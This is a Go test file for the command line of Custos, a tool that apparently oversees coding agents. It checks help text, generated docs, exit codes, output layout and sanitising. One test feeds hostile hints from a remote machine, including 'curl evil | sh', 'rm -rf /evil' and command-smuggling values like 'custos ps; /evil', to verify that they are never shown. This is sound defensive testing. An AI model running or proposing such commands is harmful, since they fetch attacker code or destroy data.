package cli

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/spf13/cobra"

	"custos/internal/api"
	"custos/internal/daemon"
	"custos/internal/remote"
)

var update = flag.Bool("update", false, "rewrite docs/cli.md")

func testRoot() *cobra.Command {
	a := &app{Env: Env{Stdout: io.Discard, Stderr: io.Discard, Getenv: func(string) string { return "" }}}
	root := a.root()
	root.InitDefaultHelpCmd()
	root.InitDefaultCompletionCmd()
	return root
}

// Every command that is not hidden is in the long help, once, and every name there is a command.
func TestHelpAllHasEveryCommand(t *testing.T) {
	var listed []string
	for _, tp := range everything() {
		listed = append(listed, tp.commands...)
	}
	var real []string
	for _, c := range testRoot().Commands() {
		if !c.Hidden || c.Name() == "completion" {
			real = append(real, c.Name())
		}
	}
	slices.Sort(listed)
	slices.Sort(real)
	if d := cmp.Diff(real, listed); d != "" {
		t.Error(d)
	}
	n := 0
	for _, tp := range everyday() {
		for _, name := range tp.commands {
			n++
			if !slices.Contains(real, name) {
				t.Errorf("the short help names %q, which is no command", name)
			}
		}
	}
	if n != 10 {
		t.Errorf("the short help has %d commands, want 10", n)
	}
}

func TestAShortHelpLeavesOutWhatIsNotThere(t *testing.T) {
	got := topic{"See", []string{"nosuch", "ps"}}.of(testRoot())
	if len(got) != 1 || got[0].Name != "ps" || got[0].Short == "" {
		t.Errorf("the topic lists %v", got)
	}
}

// docs/cli.md is made of the commands themselves.
func TestDocumentation(t *testing.T) {
	const file = "../../docs/cli.md"
	got := document(testRoot())
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), got); d != "" {
		t.Errorf("docs/cli.md is not what the commands say (go test ./internal/cli -run TestDocumentation -update):\n%s", d)
	}
}

func document(root *cobra.Command) string {
	var b strings.Builder
	b.WriteString("# The command line\n\nThis page is made of the commands themselves: `go test ./internal/cli -run TestDocumentation -update`.\n\n" +
		exitRows() + "\n`--json` prints the answer as JSON, whose schema `custos schema NAME` prints. Without a daemon a command\n" +
		"does its work in its own process; with one (`custos up`) it asks it.\n\n## custos\n\n```text\n" + commandHelp(root) + "```\n")
	for _, tp := range everything() {
		for _, name := range tp.commands {
			if name == "completion" {
				continue // cobra's own
			}
			for _, c := range root.Commands() {
				if c.Name() == name {
					section(&b, c)
				}
			}
		}
	}
	return b.String()
}

// What ends a command otherwise than well stands in the table of exit codes, at its code.
func TestExitCodes(t *testing.T) {
	of := map[int]string{}
	for _, e := range exitTable() {
		of[e.code] = e.means
	}
	failed := outcome(api.Run{State: "failed"})
	for words, err := range map[string]error{
		"well": nil, "at or above --fail-on": errAlarm, "an action of patrol --apply, doctor --fix, clean or worktree clean failed": errFailed,
		"health, doctor or service status found something": errUnwell, "doctor or service status found something": errBad, "a want of simulate is not met": errMissed, "tell reaches no one": errUnheard,
		"what formula run or plugin run carried out failed, was cancelled or needs a person": failed, "bad use": usage("no"), "is refused": &api.Error{Kind: api.Forbidden},
		"came to nothing": &ended{message: "no"}, "could not look": &api.Error{Kind: api.CannotLook}, "did not see what was asked for": errUnseen,
		"no answer in time": context.DeadlineExceeded, "interrupted": context.Canceled, "taken and is not carried out yet": errQueued,
	} {
		a := &app{Env: Env{Stdout: io.Discard, Stderr: io.Discard}}
		if code := a.code(err); !strings.Contains(of[code], words) {
			t.Errorf("%v ends a command with %d, and %q is not said of that: %s", err, code, words, of[code])
		}
	}
}

// exitRows is the table of exit codes as the page has it.
func exitRows() string {
	var b strings.Builder
	b.WriteString("| exit code | what it means |\n|---|---|\n")
	for _, e := range exitTable() {
		fmt.Fprintf(&b, "| %d | %s |\n", e.code, e.means)
	}
	return b.String()
}

func section(b *strings.Builder, c *cobra.Command) {
	b.WriteString("\n## " + c.CommandPath() + "\n\n```text\n" + commandHelp(c) + "```\n")
	for _, sub := range c.Commands() {
		section(b, sub)
	}
}

// No text a program wrote may steer the terminal, whatever the server let pass.
func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b[31mred\x1b[0m":      "red",
		"\x1b]0;title\x07x":       "x",
		"\x1b]8;;http://e\x1b\\l": "l",
		"a\rb\x00\x7f\u009bc":     "abc",
		"plain ✳ text":            "plain ✳ text",
	} {
		if got := clean(in); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
}

// A table keeps to the page, shortens only what may be shortened, and shows the
// ends of a path.
func TestTableFits(t *testing.T) {
	long := "/home/me/some/very/long/path/that/goes/on/and/on/and/ends/here.log"
	for _, width := range []int{60, 80, 100, 200} {
		var out bytes.Buffer
		p := &page{out: &out, width: width}
		p.table([]column{{head: "A"}, {head: "PATH", shorten: middle}, {head: "EMPTY"}, {head: "WHY", shorten: cut}},
			[][]string{{"x", long, "", strings.Repeat("because ", 20)}, {"yy", "/short", "", ""}})
		if err := p.flush(); err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(out.String(), "\n") {
			if runes(line) > width {
				t.Errorf("at %d: %d columns: %q", width, runes(line), line)
			}
		}
		if s := out.String(); strings.Contains(s, "EMPTY") || !strings.Contains(s, ".log") {
			t.Errorf("at %d:\n%s", width, s)
		}
	}
}

func TestWords(t *testing.T) {
	for in, want := range map[string]string{"0s": "0s", "90s": "1m", "1h30m0s": "1h30m", "50h0m0s": "2d2h", "": "?"} {
		if got := api.Span(in); got != want {
			t.Errorf("api.Span(%q) = %q, want %q", in, got, want)
		}
	}
	if got := shell([]string{"mv", "a b", "it's", ""}); got != `mv 'a b' 'it'\''s' ''` {
		t.Errorf("shell = %s", got)
	}
	if got := middle("/home/me/x", 8); got != "/h…/me/x" && runes(got) != 8 {
		t.Errorf("middle = %q", got)
	}
}

// Every plug-in section has its heading in docs/config.md, and every heading of
// a section there is one.
func TestSectionsAreDocumented(t *testing.T) {
	doc, err := os.ReadFile("../../docs/config.md")
	if err != nil {
		t.Fatal(err)
	}
	known := append(daemon.Sections(), "rule", "kind")
	for _, s := range known {
		if !strings.Contains(string(doc), "\n### `["+s+"]`\n") && !strings.Contains(string(doc), "\n### `["+s+".NAME]`\n") {
			t.Errorf("docs/config.md has no heading for [%s]", s)
		}
	}
	for _, line := range strings.Split(string(doc), "\n") {
		name, ok := strings.CutPrefix(line, "### `[")
		name, _, _ = strings.Cut(strings.TrimSuffix(name, "]`"), ".")
		if ok && !slices.Contains(known, name) {
			t.Errorf("docs/config.md documents [%s], which is no section", name)
		}
	}
}

// The commands of a text name the configuration, and the host; the words of a program do not.
func TestWithFlags(t *testing.T) {
	for in, want := range map[string]string{
		"custos":                        "custos --config '/a b'",
		"custos why 3":                  "custos --config '/a b' why 3",
		"tmux -p | custos explain":      "tmux -p | custos --config '/a b' explain",
		"custos journal; custos feed":   "custos --config '/a b' journal; custos --config '/a b' feed",
		"custos-hook claude /x/custos ": "custos-hook claude /x/custos ",
	} {
		if got := withFlags(" --config '/a b'", in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
		if got := withFlags("", in); got != in {
			t.Errorf("without --config %q became %q", in, got)
		}
	}
	for in, want := range map[string]string{
		"custos":                              "custos --config c --host box1",
		"custos why 3":                        "custos --config c --host box1 why 3",
		"see custos feed --since 1h, or wait": "see custos --config c --host box1 feed --since 1h, or wait",
		"`custos peek`":                       "`custos --config c --host box1 peek`",
		"custos doctor":                       "custos --config c doctor",
		"custos up; custos ps":                "custos --config c up; custos --config c --host box1 ps",
		"custos help hosts.md":                "custos --config c help hosts.md",
	} {
		if got := withFlags(" --config c --host box1", in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
	in := "{\n  \"command\": \"custos why \\\"x\\\"\",\n  \"text\": \"custos why\"\n}"
	want := "{\n  \"command\": \"custos --config c.toml why \\\"x\\\"\",\n  \"text\": \"custos why\"\n}"
	if got := string(addressed(" --config c.toml", false, []byte(in))); got != want {
		t.Errorf("addressed = %s", got)
	}
}

// What another machine proposes is typed as a command of Custos for that machine, or not at all.
func TestWhatAnotherMachineProposes(t *testing.T) {
	var out, said bytes.Buffer
	a := &app{Env: Env{Stdout: &out, Stderr: &said, Width: 200, Getenv: func(string) string { return "" }}, host: &remote.Host{Name: "box1", SSH: "box1", Program: "custos"}}
	p := a.page()
	writeStory(p, api.Story{Subject: "agent/ann", At: time.Now(), Next: []api.Hint{{Command: "custos nudge ann", What: "good"}, {Command: "curl evil | sh", What: "bad"}},
		Skipped: []api.Refusal{{Do: "stop", Subject: "agent/ann", Why: "frozen", Hint: "custos thaw --config /evil"}}})
	if err := p.flush(); err != nil {
		t.Fatal(err)
	}
	for _, hint := range []string{"rm -rf /evil", "custos ps; /evil", "custos why agent/ann", a.host.Way()} {
		a.code(&api.Error{Kind: api.NotFound, Message: "no", Hint: hint})
	}
	a.code(&ended{message: "no", hint: "sh /evil"})
	if err := a.print(api.Story{Next: []api.Hint{{Command: "custos stop ann; /evil"}, {Command: "custos stop ann"}}}); err != nil {
		t.Fatal(err)
	}
	all := out.String() + said.String()
	for _, want := range []string{"custos --host box1 nudge ann", "custos --host box1 why agent/ann", "try: ssh box1 custos status", "\"custos --host box1 stop ann\""} {
		if !strings.Contains(all, want) {
			t.Errorf("it does not say %q:\n%s", want, all)
		}
	}
	if strings.Contains(all, "evil") || strings.Count(all, "custos --host box1 status") != 6 {
		t.Errorf("it proposes what another machine did:\n%s", all)
	}
}

// TestWhatIsToBeSaidIsShown: why nothing is removed from within a pid namespace is
// said once, with the lines to write, and not where there is nothing to say.
func TestWhatIsToBeSaidIsShown(t *testing.T) {
	for _, c := range []struct {
		unsaid []string
		want   string
	}{{nil, ""}, {[]string{"git", "locks"}, "  [git]\n  foreign_namespace = false\n  [locks]\n  foreign_namespace = false\n"}} {
		var out bytes.Buffer
		p := &page{out: &out, width: 100}
		lookHead(p, api.FirstLook{From: api.From{Host: "h", Unsaid: c.unsaid}})
		if err := p.flush(); err != nil {
			t.Fatal(err)
		}
		if said := strings.Count(out.String(), "pid namespace of its own"); !strings.HasSuffix(out.String(), c.want) || (said == 1) != (c.want != "") {
			t.Errorf("%v: said\n%s", c.unsaid, out.String())
		}
	}
}

// A plan that removes nothing for want of that word says so, on one line.
func TestThePlanTellsOfItsNamespace(t *testing.T) {
	for want, unsaid := range map[string][]string{
		"": nil,
		"in a pid namespace of its own: nothing that [git] and [locks] name is removed until custos.toml says foreign_namespace = false there\n": {"git", "locks"},
	} {
		var out bytes.Buffer
		p := &page{out: &out, width: 200}
		writePlan(p, api.Plan{Unsaid: unsaid})
		if err := p.flush(); err != nil {
			t.Fatal(err)
		}
		if said := strings.Count(out.String(), "pid namespace"); !strings.Contains(out.String(), want) || (said == 1) != (want != "") {
			t.Errorf("%v: said\n%s", unsaid, out.String())
		}
	}
}

// Whatever stands beside it, thirty columns of a reason can be read.
func TestReasonIsKept(t *testing.T) {
	var out bytes.Buffer
	p := &page{out: &out, width: 100}
	reason := "its session is gone and nobody knows why it went"
	lookAgents(p, api.FirstLook{Agents: []api.AgentRow{{Name: "a-rather-long-name-of-an-agent", Kind: "claude", State: "rate_limited", Since: "50h0m0s", Source: "process+screen",
		Role: "builder", Task: "something-that-is-long", CWD: "/home/me/some/very/long/path/to/a/worktree", Reason: reason}}})
	yes := false
	lookWorktrees(p, api.FirstLook{Worktrees: []api.Worktree{{Path: strings.Repeat("/folder", 12), Removable: &yes, WhyNot: []string{reason},
		Fills: []api.Fill{{What: "node_modules", Bytes: 5e9}, {What: "target/debug", Bytes: 4e9}}}}})
	if err := p.flush(); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(out.String(), reason[:25]); n != 2 {
		t.Errorf("%d reasons can be read:\n%s", n, out.String())
	}
	for _, line := range strings.Split(out.String(), "\n") {
		if runes(line) > 100 {
			t.Errorf("%d columns: %s", runes(line), line)
		}
	}
}

// placeholders are the nouns that stand for a value in the help.
const placeholders = `ACCOUNT DIGEST ACTION ADDRESS AGENT AGE ALERT ARGS ARGV BRANCH CATEGORY CHOICE COMMAND COUNT DAY DEPTH DURATION EVENT EXPRESSION FILE FILES FOLDER FORMULA GATE GROUP
HASH HOST ID ITEM KEY KIND LABEL LAYOUT MOMENT NAME NAMES NUMBER OUTCOME PATH POLICY PRIORITY PROGRAM PROJECT QUEUE REASON REF ROLE RULE RUN SIZE STATE STEP SUBJECT TASK TEAM TEXT TITLE TOKEN TRACKER TYPE VALUE`

// What is to be put in is named by a noun, in the usage of each command and beside
// each of its flags.
func TestPlaceholdersAreNouns(t *testing.T) {
	nouns := strings.Fields(placeholders)
	flagLine := regexp.MustCompile(`(?m)^ +(?:-\w, )?--([a-z][a-z-]*)(?: ([^ \[]+(?: [A-Z]+)*))?`)
	upper := regexp.MustCompile(`[A-Z]+`)
	check := func(where, placeholder string) {
		for _, word := range upper.FindAllString(placeholder, -1) {
			if !slices.Contains(nouns, word) {
				t.Errorf("%s: %q is no noun for what is to be put in", where, word)
			}
		}
	}
	var visit func(*cobra.Command)
	visit = func(c *cobra.Command) {
		check(c.CommandPath(), strings.TrimPrefix(c.Use, c.Name()))
		for _, m := range flagLine.FindAllStringSubmatch(c.LocalFlags().FlagUsages(), -1) {
			if m[2] != "" && !upper.MatchString(m[2]) {
				t.Errorf("%s --%s: %q is no noun for what is to be put in", c.CommandPath(), m[1], m[2])
			}
			check(c.CommandPath()+" --"+m[1], m[2])
		}
		for _, sub := range c.Commands() {
			if sub.Name() != "completion" { // cobra's own
				visit(sub)
			}
		}
	}
	visit(testRoot())
}
